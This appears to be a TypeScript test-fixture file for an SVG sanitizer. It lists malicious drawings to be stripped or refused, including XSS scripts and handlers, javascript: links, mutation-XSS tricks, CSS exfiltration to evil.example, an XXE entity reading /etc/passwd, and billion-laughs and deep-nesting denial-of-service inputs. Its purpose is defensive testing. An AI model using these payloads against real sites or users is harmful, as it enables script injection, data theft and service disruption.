// Drawings that mean harm, for tests. Each is the inside of an `svg` element, unless it brings its own.

const inside = (text: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${text}<rect id="kept" width="1" height="1"/></svg>`

/** What is taken out, so that the rectangle is all that stays. */
export const TAKEN_OUT: Record<string, string> = {
  'a script': inside('<script>alert(1)</script>'),
  'a script from elsewhere': inside('<script href="https://evil.example/x.js"/>'),
  'a script by an old name': inside('<script xlink:href="data:text/javascript,alert(1)"/>'),
  'a script in capitals': inside('<SCRIPT>alert(1)</SCRIPT>'),
  'a script of another namespace': inside(
    '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  ),
  'a script with a prefix': inside(
    '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
  ),
  'a script in character data': inside('<![CDATA[<script>alert(1)</script>]]>'),
  'a script in a comment': inside('<!-- ><script>alert(1)</script> -->'),
  'HTML in a foreign object': inside(
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
  ),
  'a frame': inside('<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>'),
  'HTML without a foreign object': inside(
    '<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>',
  ),
  'a link that runs': inside('<a href="javascript:alert(1)"/>'),
  'a link with a broken scheme': inside('<a xlink:href="java&#10;script:alert(1)"/>'),
  'an animation of a link': inside(
    '<a id="x"/><animate href="#x" attributeName="href" values="javascript:alert(1)"/>',
  ),
  'a set that makes a handler': inside('<set attributeName="onmouseover" to="alert(1)"/>'),
  'an animation with an event': inside('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
  'a use of another file': inside('<defs><use href="https://evil.example/x.svg#a"/></defs>'),
  'a use of data': inside(
    '<defs><use xlink:href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=#x"/></defs>',
  ),
  'an image from elsewhere': inside('<image href="https://evil.example/pixel.png"/>'),
  'an image that is SVG': inside('<image href="data:image/svg+xml,&lt;svg onload=alert(1)>"/>'),
  'a filter that fetches': inside(
    '<filter id="f"><feImage href="https://evil.example/a"/></filter>',
  ),
  'a handler of events': inside('<handler type="text/javascript">alert(1)</handler>'),
  'mutation by a style in a title': inside(
    '<title><style>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</style></title>',
  ),
  'mutation by a nested math': inside(
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><mglyph><style>&lt;img src=x onerror=alert(1)></style></mglyph></math>',
  ),
  'mutation by a paragraph': inside(
    '<p>x</p><desc><p>y<svg><script>alert(1)</script></svg></p></desc>',
  ),
  'a style sheet that is imported': inside('<style>@import "https://evil.example/a.css";</style>'),
  'a style sheet that is imported without quotes': inside(
    '<style>@IMPORT url(//evil.example/a.css);</style>',
  ),
  'a style that sends what it sees': inside(
    '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
  ),
  'a style with an escaped address': inside(
    '<style>#kept{fill:\\75 rl(https://evil.example/a)}</style>',
  ),
  'a style with an address behind a comment': inside(
    '<style>#kept{fill:ur/**/l(https://evil.example/a);mask:url(/*"*/https://evil.example/b)}</style>',
  ),
  'a font from elsewhere': inside(
    '<style>@font-face{font-family:x;src:url(https://evil.example/a)}</style>',
  ),
  'a style in character data': inside(
    '<style><![CDATA[*{background:image-set("https://evil.example/a" 1x)}]]></style>',
  ),
  'a link to a style sheet': inside(
    '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/a.css"/>',
  ),
  'metadata of editors': inside('<metadata><x xmlns="urn:x" onload="alert(1)"/></metadata>'),
}

/** What is refused as a whole, with its code. */
export const REFUSED: Record<string, [code: string, svg: string]> = {
  'an entity': [
    'svg-declarations',
    `<!DOCTYPE svg [<!ENTITY x "alert(1)">]>${inside('<text>&x;</text>')}`,
  ],
  'an entity that is a file': [
    'svg-declarations',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inside('<text>&x;</text>')}`,
  ],
  'a billion laughs': [
    'svg-declarations',
    `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${inside('&b;')}`,
  ],
  'a style sheet by instruction': [
    'svg-declarations',
    `<?xml-stylesheet href="https://evil.example/a.xsl"?>${inside('')}`,
  ],
  'another encoding': ['svg-declarations', `<?xml version="1.0" encoding="UTF-7"?>${inside('')}`],
  'an entity nobody declared': ['svg-not-svg', inside('<text>&x;</text>')],
  HTML: ['svg-not-svg', '<html><body><script>alert(1)</script></body></html>'],
  'HTML behind the drawing': ['svg-not-svg', `${inside('')}<script>alert(1)</script>`],
  'something before the drawing': ['svg-not-svg', `GIF89a/*${inside('')}*/=alert(1)`],
  'tags that cross': [
    'svg-not-svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><g><a></g></a></svg>',
  ],
  'a quote left open': ['svg-not-svg', '<svg xmlns="http://www.w3.org/2000/svg" id="><g/></svg>'],
  'the same attribute twice': ['svg-not-svg', inside('<g id="a" id="b"/>')],
  'no namespace': ['svg-not-svg', '<svg><rect width="1"/></svg>'],
  'a root of another namespace': ['svg-not-svg', '<svg xmlns="http://www.w3.org/1999/xhtml"/>'],
  'nothing but a script': [
    'svg-empty',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  ],
  'deep nesting': ['svg-too-complex', inside(`${'<g>'.repeat(5000)}${'</g>'.repeat(5000)}`)],
  'deep nesting behind quotes': [
    'svg-too-complex',
    inside(`${'<g class="/>">'.repeat(100)}${'</g>'.repeat(100)}`),
  ],
  'too many attributes': [
    'svg-too-complex',
    inside(`<g ${Array.from({ length: 40_000 }, (_, index) => `a${index}=""`).join(' ')}/>`),
  ],
  'too many elements': ['svg-too-complex', inside('<g/>'.repeat(6000))],
  'a use of itself': ['svg-too-complex', inside('<g id="a"><use href="#a"/></g>')],
  'a billion uses': [
    'svg-too-complex',
    inside(
      `${Array.from(
        { length: 30 },
        (_, level) => `<g id="u${level + 1}">${`<use href="#u${level}"/>`.repeat(10)}</g>`,
      ).join('')}<g id="u0"><rect/></g>`,
    ),
  ],
  'too much of it': ['svg-too-large', inside(`<!--${'x'.repeat(600_000)}-->`)],
}
